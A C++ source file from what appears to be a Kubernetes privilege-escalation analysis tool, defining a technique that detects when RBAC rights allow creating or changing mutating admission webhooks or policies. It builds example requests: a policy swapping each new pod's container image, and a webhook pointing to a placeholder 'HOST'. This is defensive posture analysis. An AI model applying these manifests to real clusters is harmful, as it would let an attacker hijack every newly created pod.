#include "graph/escalation/requests/read_object.h"
#include "graph/escalation/requests/text.h"
#include "graph/escalation/techniques/all.h"

#include <fmt/format.h>

namespace nsposture::escalation::techniques {

namespace {

constexpr CreatePermissions kWebhooks{kCreateWebhook};
constexpr CreatePermissions kPolicies{kCreateMutatingPolicy};
constexpr CreatePermissions kPolicyBindings{kCreateMutatingBinding};

bool may_mutate(const Evaluation& at, Proof& proof, std::string& name) {
  if (at.rights.make_some(proof, kWebhooks, kCluster, name)) return true;
  for (const auto& webhook : at.world.webhooks()) {
    name = webhook;
    if (at.rights.change(proof, kWebhooks, kCluster, webhook)) return true;
  }
  name.clear();
  if (at.world.holds(rbac::Feature::MutatingAdmissionPolicy) == rbac::Holds::No) return false;
  if (at.rights.make_some(proof, kPolicies, kCluster, name) &&
      at.rights.make_some(proof, kPolicyBindings, kCluster, name)) {
    return true;
  }
  proof.clear();
  for (const auto& policy : at.world.bound_policies()) {
    name = policy;
    if (at.rights.change(proof, kPolicies, kCluster, policy)) return true;
  }
  return false;
}

// Pods are created all the time, in every namespace; a mutation changes their image and service
// account. Validating webhooks change nothing.
void edges(const Evaluation& at) {
  Proof proof;
  std::string name;
  if (!may_mutate(at, proof, name)) return;
  at.sink.emit({NodeType::Accounts, kAllNamespaces, 0}, proof, NamedObject{name});
}

constexpr std::string_view kPolicySpec =
    R"(,"spec":{"failurePolicy":"Ignore","reinvocationPolicy":"Never","matchConstraints":{"resourceRules":[{"operations":["CREATE"],"apiGroups":[""],"apiVersions":["v1"],"resources":["pods"]}]},"mutations":[{"patchType":"JSONPatch","jsonPatch":{"expression":"[JSONPatch{op: \"replace\", path: \"/spec/containers/0/image\", value: \"IMAGE\"}]"}}]})";

requests::ObjectPlace place(std::string_view resource, const StepView& view) {
  return {kAdmissionGroup, "v1", resource, {}, requests::object_name(view.edge)};
}

StepText text(const StepView& view) {
  const bool policy_exists = requests::uses(view.edge, kUpdateMutatingPolicy) ||
                             (requests::uses(view.edge, kPatchMutatingPolicy) &&
                              !requests::uses(view.edge, kCreateMutatingPolicy));
  if (policy_exists) {
    const auto json =
        requests::object_json("admissionregistration.k8s.io/v1", "MutatingAdmissionPolicy", {},
                              requests::object_name(view.edge), kPolicySpec);
    const auto written = requests::overwrite_versioned(
        view, kPatchMutatingPolicy, place("mutatingadmissionpolicies", view), json);
    return {written.request,
            fmt::format("a binding puts the policy into force ({}): it now changes the image and "
                        "the account of the next pod that anybody makes{}",
                        rbac::since_text(rbac::Feature::MutatingAdmissionPolicy), written.because)};
  }
  if (requests::uses(view.edge, kCreateMutatingPolicy)) {
    const auto name = requests::fresh_name(view, requests::object_name(view.edge));
    const auto json = requests::object_json("admissionregistration.k8s.io/v1",
                                            "MutatingAdmissionPolicy", {}, name, kPolicySpec);
    const auto binding = requests::object_json(
        "admissionregistration.k8s.io/v1", "MutatingAdmissionPolicyBinding", {}, name,
        fmt::format(R"(,"spec":{{"policyName":{}}})", requests::json_text(name)));
    return {
        requests::send_object(view, kCreateMutatingPolicy, json) + '\n' +
            requests::send_object(view, kCreateMutatingBinding, binding),
        fmt::format("a mutating policy ({}) changes the image and the account of the next pod that "
                    "anybody makes",
                    rbac::since_text(rbac::Feature::MutatingAdmissionPolicy))};
  }
  const auto name = requests::fresh_name(view, requests::object_name(view.edge));
  const auto json = requests::object_json(
      "admissionregistration.k8s.io/v1", "MutatingWebhookConfiguration", {}, name,
      R"(,"webhooks":[{"name":"take.over.example","sideEffects":"None","admissionReviewVersions":["v1"],"failurePolicy":"Ignore","clientConfig":{"url":"https://HOST/mutate","caBundle":"BASE64-OF-CA"},"rules":[{"operations":["CREATE"],"apiGroups":[""],"apiVersions":["v1"],"resources":["pods"]}]}])");
  std::string because =
      "a mutating webhook changes the image and the account of the next pod that anybody makes";
  if (requests::uses(view.edge, kCreateWebhook)) {
    return {requests::send_object(view, kCreateWebhook, json), because};
  }
  const auto written = requests::overwrite_versioned(
      view, kPatchWebhook, place("mutatingwebhookconfigurations", view), json);
  return {written.request, because + written.because};
}

}  // namespace

Technique mutate_admission() {
  return {.id = TechniqueId::MutateAdmission,
          .title = "Change pods at admission",
          .attack = "T1556",
          .cis = "5.1.12",
          .takes = Takes::Administration,
          .cost = 22,
          .where = kAtCluster,
          .any_of = {kCreateWebhook, kUpdateWebhook, kPatchWebhook, kCreateMutatingPolicy,
                     kUpdateMutatingPolicy, kPatchMutatingPolicy},
          .edges = edges,
          .text = text};
}

}  // namespace nsposture::escalation::techniques
